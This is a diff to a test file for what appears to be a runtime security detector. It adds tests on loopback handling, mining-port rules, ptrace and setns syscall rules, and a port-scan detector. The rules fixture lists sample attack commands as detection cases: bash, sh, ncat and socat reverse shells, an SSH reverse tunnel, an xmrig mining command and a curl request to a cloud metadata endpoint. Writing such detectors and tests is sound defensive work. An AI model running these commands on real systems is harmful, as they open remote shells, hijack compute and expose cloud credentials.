@@ -21,6 +21,8 @@ def rules():
     ("xmrig -o stratum+tcp://pool:3333", "compute.mining"),
     ("ssh -fN -R 8080:localhost:80 me@host", "network.reverse_shell"),
     ("bash -i >& /dev/tcp/10.0.0.1/4242 0>&1", "network.reverse_shell"),
+    ("bash -i >& /dev/tcp/127.0.0.1/4242 0>&1", "network.reverse_shell"),
+    ("sh -i 5<> /dev/tcp/127.0.0.1/9 0<&5 1>&5", "network.reverse_shell"),
     ("ncat -e /bin/bash host 4444", "network.reverse_shell"),
     ("socat tcp:host:1 exec:/bin/sh", "network.reverse_shell"),
     ("curl http://169.254.169.254/latest/meta-data/", "credential.access"),
@@ -46,14 +48,32 @@ def test_connect_rules(rules):
     assert "credential.access" in {e.category for e in
                                    apply_rules(rules, obs(kind="connect", address="169.254.169.254", port=80))}
     assert "compute.mining" in {e.category for e in
-                                apply_rules(rules, obs(kind="connect", address="::1", port=3333))}
+                                apply_rules(rules, obs(kind="connect", address="203.0.113.7", port=3333))}
+
+
+def test_loopback_dev_server_ports_and_reverse_shell_ports_are_not_mining(rules):
+    for address, port in [("127.0.0.1", 3333), ("::1", 3333), ("127.0.0.1", 5555), ("203.0.113.7", 4444)]:
+        assert "compute.mining" not in {e.category for e in apply_rules(rules, obs(kind="connect", address=address,
+                                                                                    port=port))}
+
+
+def test_ptrace_is_not_an_escape_syscall_by_itself(rules):
+    assert apply_rules(rules, obs(kind="syscall", syscall="ptrace")) == []
+    assert {e.rule for e in apply_rules(rules, obs(kind="syscall", syscall="setns"))} == {"escape-syscall"}
 
 
 def test_scan_detector_fires_once_per_window():
     scan = ScanDetector(window=5, threshold=8)
-    fired = [e for port in range(20) for e in scan.observe(obs(kind="connect", address="127.0.0.1", port=port,
+    fired = [e for port in range(20) for e in scan.observe(obs(kind="connect", address="203.0.113.5", port=port,
                                                               time=port * 0.1))]
     assert len(fired) == 1 and fired[0].category == "network.scan"
+
+
+def test_scan_detector_leaves_loopback_to_the_sandbox_unless_asked():
+    many_servers = [obs(kind="connect", address="127.0.0.1", port=port, time=port * 0.01) for port in range(50)]
+    default, asked = ScanDetector(), ScanDetector(loopback=True)
+    assert [e for o in many_servers for e in default.observe(o)] == []
+    assert len([e for o in many_servers for e in asked.observe(o)]) == 1
     slow = ScanDetector(window=1, threshold=8)
     assert not [e for p in range(20) for e in slow.observe(obs(kind="connect", address="h", port=p, time=p * 1.0))]
 
